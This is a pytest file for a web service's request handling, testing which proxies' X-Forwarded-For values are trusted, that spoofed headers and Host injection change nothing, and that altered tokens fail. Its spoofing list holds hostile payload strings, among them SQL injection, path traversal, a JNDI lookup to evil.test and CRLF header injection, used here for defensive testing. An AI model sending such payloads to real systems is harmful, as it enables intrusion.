"""Bar 25: from where somebody calls, and what no header can make us believe."""

import ipaddress
from collections.abc import Iterator

import pytest
from litestar import Request

from adapters.http.callers import Callers
from tests.service.malformed import JSON
from tests.service.processes import settings
from tests.service.raw import Case, request, send, send_all
from tests.service.standing import standing_service
from tests.service.world import World

PROXIES = ("10.0.0.0/8", "127.0.0.0/8", "fd00::/8")
SEEN = {
    # peer, X-Forwarded-For: the address that is believed
    ("203.0.113.7", None): "203.0.113.7",
    ("203.0.113.7", "198.51.100.9"): "203.0.113.7",
    ("10.0.0.1", None): "10.0.0.1",
    ("10.0.0.1", ""): "10.0.0.1",
    ("10.0.0.1", "198.51.100.9"): "198.51.100.9",
    ("10.0.0.1", "1.1.1.1, 198.51.100.9"): "198.51.100.9",
    ("10.0.0.1", "198.51.100.9, 10.0.0.2"): "198.51.100.9",
    ("10.0.0.1", "10.0.0.3, 10.0.0.2"): "10.0.0.3",
    ("10.0.0.1", "1.1.1.1, nonsense"): "10.0.0.1",
    ("10.0.0.1", "1.1.1.1, nonsense, 10.0.0.2"): "10.0.0.2",
    ("10.0.0.1", "198.51.100.9:443"): "10.0.0.1",
    ("10.0.0.1", " 2001:db8::1 "): "2001:db8::1",
    ("fd00::1", "2001:db8::1"): "2001:db8::1",
    ("fd00::1", "[2001:db8::1]"): "fd00::1",
    ("", "198.51.100.9"): "",
}


@pytest.mark.parametrize(("told", "believed"), SEEN.items())
def test_only_our_proxies_are_believed(told, believed):
    peer, forwarded = told
    headers = [] if forwarded is None else [(b"x-forwarded-for", forwarded.encode())]
    scope = {"type": "http", "headers": headers, "client": (peer, 1) if peer else None}
    callers = Callers(None, None, None, [ipaddress.ip_network(one) for one in PROXIES])
    assert callers.client(Request(scope)).address == believed


def test_nobody_is_believed_where_no_proxy_is_named():
    scope = {
        "type": "http",
        "headers": [(b"x-forwarded-for", b"198.51.100.9")],
        "client": ("127.0.0.1", 1),
    }
    assert Callers(None, None, None).client(Request(scope)).address == "127.0.0.1"


SPOOFS = (
    "198.51.100.9", "10.0.0.1", "127.0.0.1", "::1", "::ffff:198.51.100.9", "localhost", "unknown",
    "198.51.100.9, 127.0.0.1", "for=198.51.100.9;proto=https;host=evil.test", "evil.test",
    "https://evil.test/", "//evil.test", "/admin", "https", "on", "' OR 1=1 --", "../../passwd",
    "${jndi:ldap://evil.test}", "%0d%0aX-A: b", "*", "0", "-1", "null", ",,,", "[]", "{}",
    "a" * 5000, "198.51.100.9:80", "0x7f000001", "2130706433",
)  # fmt: skip
SPOOFED = (
    "X-Forwarded-For", "Forwarded", "X-Real-IP", "X-Forwarded-Host", "X-Forwarded-Proto",
    "X-Forwarded-Port", "X-Forwarded-Prefix", "X-Original-URL", "X-Rewrite-URL", "True-Client-IP",
)  # fmt: skip


@pytest.mark.parametrize("name", SPOOFED)
def test_no_header_changes_address_account_or_answer(on_sqlite, name):
    person = on_sqlite.somebody()
    signed_in = on_sqlite.sign_in(person)
    token = signed_in["session"]["access_token"]
    for spoof in SPOOFS:
        headers = {name: spoof, "Authorization": f"Bearer {token}"}
        answer = on_sqlite.service.get("/v1/me", headers=headers)
        assert answer.json() == signed_in["account"]
        assert "evil" not in str(answer.headers)
        assert on_sqlite.service.get("/v1/me", headers={name: spoof}).status_code == 401
    body = {"code": on_sqlite.code(person)}
    on_sqlite.service.post("/v1/wechat/shop/login", json=body, headers={name: SPOOFS[0]})
    devices = on_sqlite.ask("GET", "/v1/sessions", token).json()["sessions"]
    assert {one["address"] for one in devices} == {"127.0.0.1"}


@pytest.mark.parametrize("host", ["evil.test", "evil.test:80", "a@evil.test", "[::1]", ""])
def test_no_answer_repeats_the_host(on_sqlite, host):
    for method, path in (
        ("GET", "/v1/me"),
        ("GET", "/nowhere"),
        ("POST", "/livez"),
        ("GET", "/livez/"),
    ):
        headers = [("Host", host), ("X-Forwarded-Host", host or "evil.test")]
        said = send(on_sqlite.url, request(method, path, headers))
        assert b"evil" not in said.body
        assert "evil" not in str(said.headers)


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
def behind_a_proxy(request, wechat_url, tmp_path_factory):
    """A service that believes its neighbours on this machine."""
    server = request.getfixturevalue("postgres_server") if request.param == "postgres" else None
    folder = tmp_path_factory.mktemp("proxied")
    storage = server.new_database() if server else f"sqlite:///{folder / 'guiyi.db'}"
    environment = settings(
        storage=storage,
        simulator_url=wechat_url,
        port=0,
        GUIYI_SERVER__TRUSTED_PROXIES='["127.0.0.0/8"]',
    )
    with standing_service(environment) as url, World(url, wechat_url, storage) as world:
        yield world
    if server:
        server.drop_database(storage)


def seen_from(world, forwarded: str) -> str:
    """Sign somebody in with this X-Forwarded-For, and return the address that is kept."""
    body = {"code": world.code(world.somebody())}
    answer = world.service.post(
        "/v1/wechat/shop/login", json=body, headers={"X-Forwarded-For": forwarded}
    )
    token = answer.json()["session"]["access_token"]
    return world.ask("GET", "/v1/sessions", token).json()["sessions"][0]["address"]


@pytest.mark.parametrize(
    ("forwarded", "kept"),
    [
        ("198.51.100.9", "198.51.100.9"),
        ("1.1.1.1, 198.51.100.9, 127.0.0.2", "198.51.100.9"),
        ("not an address", "127.0.0.1"),
        ("2001:db8::1", "2001:db8::1"),
    ],
)
def test_the_device_list_shows_what_the_proxy_saw(behind_a_proxy, forwarded, kept):
    assert seen_from(behind_a_proxy, forwarded) == kept


def test_an_address_with_an_endless_zone_is_none(behind_a_proxy):
    assert len(seen_from(behind_a_proxy, "fe80::1%" + "a" * 500)) < 64


def test_a_device_is_shown_by_what_it_calls_itself(on_sqlite):
    name = "归 \u202e一\x1b".encode() + b"\xff" + b"a" * 300
    code = on_sqlite.code(on_sqlite.somebody())
    headers = [JSON, ("User-Agent", name.replace(b"\x1b", b""))]
    body = b'{"code":"%s"}' % code.encode()
    answer = send(on_sqlite.url, request("POST", "/v1/wechat/shop/login", headers, body))
    token = answer.json()["session"]["access_token"]
    device = on_sqlite.ask("GET", "/v1/sessions", token).json()["sessions"][0]["device"]
    assert len(device) <= 256
    assert device.isprintable()
    assert device.endswith("aaa")


def changed(token: str) -> Iterator[str]:
    """Yield the token with each of its characters changed, left out and doubled.

    The last is left alone: of its bits some mean nothing, so that another may say the same.
    """
    for at, character in enumerate(token[:-1]):
        other = "A" if character != "A" else "B"
        for instead in (other, "", character * 2):
            yield token[:at] + instead + token[at + 1 :]


def test_a_changed_token_opens_nothing_and_ends_nothing(on_sqlite):
    session = on_sqlite.sign_in()["session"]
    looks = [
        Case(one, request("GET", "/v1/me", [("Authorization", f"Bearer {one}")]))
        for one in changed(session["access_token"])
    ]
    refreshes = [
        Case(
            one,
            request(
                "POST", "/v1/session/refresh", [JSON], b'{"refresh_token":"%s"}' % one.encode()
            ),
        )
        for one in changed(session["refresh_token"])
    ]
    for answer in send_all(on_sqlite.url, looks + refreshes):
        assert (answer.status, answer.json()["code"]) == (401, "not_signed_in")
    assert on_sqlite.who_am_i(session["access_token"]).status_code == 200
    assert on_sqlite.refresh(session["refresh_token"]).status_code == 200
